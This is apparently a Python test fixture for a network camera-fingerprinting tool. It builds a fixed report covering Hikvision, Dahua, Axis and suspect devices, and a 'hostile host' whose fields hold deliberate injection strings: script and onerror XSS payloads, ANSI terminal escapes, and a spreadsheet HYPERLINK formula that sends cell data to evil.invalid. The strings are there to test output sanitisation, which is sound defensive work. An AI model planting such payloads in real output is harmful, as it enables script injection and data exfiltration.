"""A fixed demonstration report: three real-world device types and one hostile host (and a suspect).

Used by the tests, the docs and the benchmark so every renderer is exercised with the same data,
including strings built to break naive output (rich markup, ANSI escapes, HTML, spreadsheet formulas).
No network, no randomness: the same call always returns the same report.
"""

from __future__ import annotations

import ipaddress

from netfinger.evidence import HostEvidence, Observation
from netfinger.match.interface import EvidenceRef, Suspect, Verdict, VulnFinding
from netfinger.report.model import HostReport, Report, ScanInfo

HOSTILE_MODEL = "[bold red]x[/] \x1b[31m <script>document.title='pwned'</script>"
HOSTILE_FIRMWARE = "<img src=x onerror=\"document.title='pwned'\">"
HOSTILE_BRAND = '=HYPERLINK("http://evil.invalid/?x="&A1,"click")'
HOSTILE_MAKER = "@SUM(1+1)\u202e"


def _obs(pairs: list[tuple[str, str]]) -> list[Observation]:
    return [Observation(field, value) for field, value in pairs]


def hikvision_host(ip: str = "192.168.50.21", mac: str = "c0:56:e3:12:34:56") -> HostReport:
    evidence = HostEvidence(
        ip=ip,
        mac=mac,
        observations=_obs(
            [
                ("mac.oui_org", "Hangzhou Hikvision Digital Technology Co.,Ltd."),
                ("sadp.DeviceDescription", "DS-2CD2142FWD-I"),
                ("sadp.SoftwareVersion", "V5.4.0build 160401"),
                ("http.header.server", "App-webs/"),
            ]
        ),
        protocols=["arp", "sadp", "http"],
    )
    verdict = Verdict(
        manufacturer="Hikvision",
        brand="Hikvision",
        model="DS-2CD2142FWD-I",
        firmware="V5.4.0 build 160401",
        device_type="IP camera",
        banned=True,
        banned_by=("NDAA §889", "FCC Covered List"),
        status="banned",
        confidence=0.97,
        vulnerabilities=(
            VulnFinding(
                id="CVE-2017-7921",
                kev=True,
                backdoor=True,
                basis="firmware V5.4.0 build 160401 is before the fixed build",
                fixed_in="V5.4.5 build 170123",
                title="Improper authentication (ISAPI auth bypass)",
            ),
        ),
        evidence=(
            EvidenceRef("hikvision.oui", "mac.oui_org", "Hangzhou Hikvision Digital Technology Co.,Ltd."),
            EvidenceRef("hikvision.sadp", "sadp.DeviceDescription", "DS-2CD2142FWD-I"),
        ),
    )
    return HostReport(evidence=evidence, verdict=verdict)


def dahua_host(ip: str = "192.168.50.34", mac: str = "3c:ef:8c:aa:bb:cc") -> HostReport:
    evidence = HostEvidence(
        ip=ip,
        mac=mac,
        observations=_obs(
            [
                ("mac.oui_org", "Zhejiang Dahua Technology Co., Ltd."),
                ("dhip.DeviceType", "IPC-HDW1431T1-S4"),
                ("dhip.Version", "2.800.0000000.16.R"),
            ]
        ),
        protocols=["arp", "dhip"],
    )
    verdict = Verdict(
        manufacturer="Dahua",
        brand="Dahua",
        model="IPC-HDW1431T1-S4",
        firmware="2.800.0000000.16.R",
        device_type="IP camera",
        banned=True,
        banned_by=("NDAA §889", "FCC Covered List"),
        status="banned",
        confidence=0.93,
        vulnerabilities=(
            VulnFinding(
                id="CVE-2021-33044",
                kev=True,
                basis="firmware build 2.800.0000000.16.R predates the June 2021 fix",
                fixed_in="2.800.0000016.0.R",
                title="Authentication bypass (NetKeyboard client type)",
            ),
        ),
        evidence=(
            EvidenceRef("dahua.oui", "mac.oui_org", "Zhejiang Dahua Technology Co., Ltd."),
            EvidenceRef("dahua.dhip", "dhip.DeviceType", "IPC-HDW1431T1-S4"),
        ),
    )
    return HostReport(evidence=evidence, verdict=verdict)


def axis_host(ip: str = "192.168.50.7", mac: str = "00:40:8c:01:02:03") -> HostReport:
    evidence = HostEvidence(
        ip=ip,
        mac=mac,
        observations=_obs([("mac.oui_org", "Axis Communications AB"), ("onvif.Model", "P3245-LV")]),
        protocols=["arp", "onvif"],
    )
    verdict = Verdict(
        manufacturer="Axis",
        brand="Axis",
        model="P3245-LV",
        firmware="10.12.182",
        device_type="IP camera",
        status="clear",
        confidence=0.9,
        evidence=(EvidenceRef("axis.onvif", "onvif.Model", "P3245-LV"),),
    )
    return HostReport(evidence=evidence, verdict=verdict)


def suspect_host(ip: str = "192.168.50.40", mac: str = "02:00:00:00:00:40") -> HostReport:
    """A camera that names a Dahua OEM label and nothing Dahua's own: suspect, not banned."""
    evidence = HostEvidence(
        ip=ip,
        mac=mac,
        observations=_obs([("wsd.scope.location", "country/china"), ("wsd.scope.name", "IC Realtime")]),
        protocols=["wsd"],
    )
    signals = (
        EvidenceRef("brand.ic-realtime.name", "wsd.scope.name", "IC Realtime", "corroborating"),
        EvidenceRef("wsd.dahua.location", "wsd.scope.location", "country/china", "weak"),
    )
    verdict = Verdict(
        manufacturer="Dahua",
        brand="IC Realtime",
        status="suspect",
        confidence=0.79,
        evidence=signals,
        notes=(
            "suspect: one independent corroborating signal (label) and no strong one point at Dahua; "
            "confirming needs a strong signal or a second independent one",
        ),
        suspect=Suspect(
            covered_by=("NDAA §889", "FCC Covered List"),
            signals=signals,
            settle=(
                "DHIP did not answer: a Dahua unit answers DHIP discovery (UDP 37810); "
                "scan from the device's own L2 segment",
                "open the web UI (a Dahua unit serves /RPC2_Login and magicBox) and read the maker, "
                "model and firmware",
                "run with --credentials so ONVIF GetDeviceInformation names the maker, model and firmware",
            ),
        ),
    )
    return HostReport(evidence=evidence, verdict=verdict)


def hostile_host(ip: str = "192.168.50.66", mac: str = "02:00:00:00:00:66") -> HostReport:
    evidence = HostEvidence(
        ip=ip,
        mac=mac,
        observations=_obs([("upnp.modelName", HOSTILE_MODEL), ("http.title", "\x1b]0;owned\x07<b>hi</b>")]),
        anomalies=["upnp: description XML larger than limit, cut"],
        protocols=["ssdp", "upnp"],
    )
    verdict = Verdict(
        manufacturer=HOSTILE_MAKER,
        brand=HOSTILE_BRAND,
        model=HOSTILE_MODEL,
        firmware=HOSTILE_FIRMWARE,
        device_type="-2+3",
        status="clear",
        confidence=0.2,
        evidence=(EvidenceRef("[link=http://evil.invalid]rule[/link]", "upnp.modelName", HOSTILE_MODEL),),
        notes=("\x1b[2Jscreen cleared",),
    )
    return HostReport(evidence=evidence, verdict=verdict)


def sample_scan_info() -> ScanInfo:
    return ScanInfo(
        start="2026-11-24T02:00:00Z",
        end="2026-11-24T02:01:30Z",
        targets=["192.168.50.0/24"],
        probes={
            "arp": "completed",
            "sadp": "completed",
            "dhip": "completed",
            "rtsp": "skipped: not requested",
        },
        netfinger_version="0.1.0",
        signatures_version="2026.11.1",
        scanner_host="sweeper",
        interrupted=False,
    )


def sample_report() -> Report:
    """Hikvision (banned, KEV), Dahua (banned, KEV), Axis (clear), and a hostile host."""
    return Report(
        scan=sample_scan_info(), hosts=[axis_host(), hostile_host(), dahua_host(), hikvision_host()]
    )


def tiers_report() -> Report:
    """The sample report plus a suspect (weak hints at Dahua only): every verdict tier but unknown."""
    report = sample_report()
    report.hosts.insert(2, suspect_host())
    return report


def large_report(count: int) -> Report:
    """``count`` hosts cycling through the sample kinds, for size and speed measurements."""
    makers = (hikvision_host, dahua_host, axis_host, hostile_host)
    base = int(ipaddress.IPv4Address("10.0.0.1"))
    hosts = []
    for i in range(count):
        ip = str(ipaddress.IPv4Address(base + i))
        mac = ":".join(f"{b:02x}" for b in (2, 0, (i >> 24) & 255, (i >> 16) & 255, (i >> 8) & 255, i & 255))
        hosts.append(makers[i % len(makers)](ip=ip, mac=mac))
    return Report(scan=sample_scan_info(), hosts=hosts)
